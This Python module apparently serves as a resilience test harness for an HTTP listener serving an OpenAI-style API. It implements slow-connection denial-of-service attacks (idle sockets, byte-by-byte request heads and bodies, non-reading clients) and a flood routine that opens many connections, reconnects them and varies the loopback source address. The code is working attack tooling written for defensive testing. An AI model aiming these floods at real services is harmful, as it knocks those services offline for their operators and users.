"""Attacks on a listener's sockets: connections that send nothing, or send and read very slowly."""

from __future__ import annotations

import asyncio
import random
import select
import socket
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from typing import Literal

Outcome = Literal["held", "closed", "refused", "failed"]
KINDS = ("idle", "slow_head", "slow_body", "slow_reader")
DRIP_S = 2.0
"""Mean time between two bytes of a slow client, in seconds."""
AGAIN_S = 1.0
"""Delay before a disconnected client reconnects, in seconds."""


@dataclass(frozen=True, slots=True, kw_only=True)
class FloodCounts:
    """How an attack's connections ended."""

    held: int
    """Connections that are open at the end."""
    closed: int
    """Connections that the server closed."""
    refused: int
    """Connections answered with 503, whether closed or not."""
    failed: int
    """Connections that never opened."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """The address to attack, and the address to attack from; on loopback, any address in 127.0.0.0/8."""

    host: str
    port: int
    source: str | None = None


Attack = Callable[[socket.socket], Awaitable[None]]
"""Uses one open connection until cancelled; raises OSError once the server has closed the connection."""


def request(method: str, path: str, headers: Mapping[str, str], content: bytes = b"") -> bytes:
    """A complete HTTP request."""
    lines = [f"{method} {path} HTTP/1.1", "host: flooded", *(f"{name}: {value}" for name, value in headers.items())]
    if method != "GET":
        lines.append(f"content-length: {len(content)}")
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + content


async def idle(connection: socket.socket) -> None:
    """Send nothing."""
    await asyncio.Event().wait()


def slow_head(path: str = "/v1/models") -> Attack:
    """Send a request's head one byte at a time, without end."""

    async def attack(connection: socket.socket) -> None:
        await _send(connection, f"GET {path} HTTP/1.1\r\nhost: flooded\r\nx-slow: ".encode())
        await _drip(connection)

    return attack


def slow_body(path: str, headers: Mapping[str, str], num_bytes: int = 60_000) -> Attack:
    """Announce a body and send it one byte at a time."""

    async def attack(connection: socket.socket) -> None:
        await _send(connection, request("POST", path, headers, b"x" * num_bytes)[:-num_bytes])
        await _drip(connection)

    return attack


def slow_reader(whole: bytes, num_times: int = 1) -> Attack:
    """Send a complete request and read nothing; repeat the request if one answer fits into the kernel's buffers."""

    async def attack(connection: socket.socket) -> None:
        await _send(connection, whole * num_times)
        await asyncio.Event().wait()

    return attack


def attack_of(kind: str, key: str) -> Attack:
    """One of the KINDS of attack on the OpenAI listener, with this tenant's key if it needs one."""
    headers = {"authorization": f"Bearer {key}", "content-type": "application/json"}
    return {
        "idle": idle,
        "slow_head": slow_head(),
        "slow_body": slow_body("/v1/completions", headers),
        # A fairly large document that costs no quota.
        "slow_reader": slow_reader(request("GET", "/openapi.json", headers), num_times=8),
    }[kind]


async def flood(
    target: Target,
    attack: Attack,
    num_connections: int,
    hold_s: float,
    ramp_s: float = 0.0,
    comes_again: bool = False,
) -> FloodCounts:
    """Open the connections over `ramp_s` seconds, close each `hold_s` seconds later, and count how they ended.

    With `comes_again`, an attacker replaces each connection that it loses early.
    """

    async def one(number: int) -> list[Outcome]:
        await asyncio.sleep(ramp_s * number / num_connections)
        return await _attacker(target, attack, hold_s, comes_again)

    found = await asyncio.gather(*map(one, range(num_connections)))
    outcomes = [outcome for one in found for outcome in one]
    return FloodCounts(**{name: outcomes.count(name) for name in ("held", "closed", "refused", "failed")})


async def _attacker(target: Target, attack: Attack, hold_s: float, comes_again: bool) -> list[Outcome]:
    loop = asyncio.get_running_loop()
    end_s = loop.time() + hold_s
    outcomes = [await _one(target, attack, hold_s)]
    while comes_again and (left_s := end_s - AGAIN_S - loop.time()) > 0:
        await asyncio.sleep(AGAIN_S)
        outcomes.append(await _one(target, attack, left_s))
    return outcomes


async def _one(target: Target, attack: Attack, hold_s: float) -> Outcome:
    loop = asyncio.get_running_loop()
    with socket.socket() as connection:
        # Keep the receive buffer small, so that little data fits while the client does not read.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.setblocking(False)
        try:
            if target.source is not None:
                connection.bind((target.source, 0))
            async with asyncio.timeout(hold_s):
                await loop.sock_connect(connection, (target.host, target.port))
        except (OSError, TimeoutError):
            return "failed"
        attacking = asyncio.ensure_future(attack(connection))
        end_s = loop.time() + hold_s
        # An idle attacker must check whether it was disconnected.
        while not attacking.done() and (left_s := end_s - loop.time()) > 0 and _outcome(connection) == "held":
            await asyncio.wait({attacking}, timeout=min(left_s, AGAIN_S))
        attacking.cancel()
        await asyncio.wait({attacking})
        if not attacking.cancelled():
            # Retrieve the exception, which is expected.
            attacking.exception()
        return _outcome(connection)


def _outcome(connection: socket.socket) -> Outcome:
    """The current state of an open connection."""
    try:
        answered = connection.recv(12, socket.MSG_PEEK)
    except BlockingIOError:
        answered = b"nothing yet"
    except OSError:
        return "closed"
    if answered.startswith(b"HTTP/1.1 503"):
        return "refused"
    poll = select.poll()
    poll.register(connection, select.POLLRDHUP)
    return "closed" if poll.poll(0) else "held"


async def _send(connection: socket.socket, content: bytes) -> None:
    await asyncio.get_running_loop().sock_sendall(connection, content)


async def _drip(connection: socket.socket) -> None:
    while True:
        # Spread the connections over time; otherwise the attack would be a flood of packets.
        await asyncio.sleep(random.uniform(0.5, 1.5) * DRIP_S)
        await _send(connection, b"x")
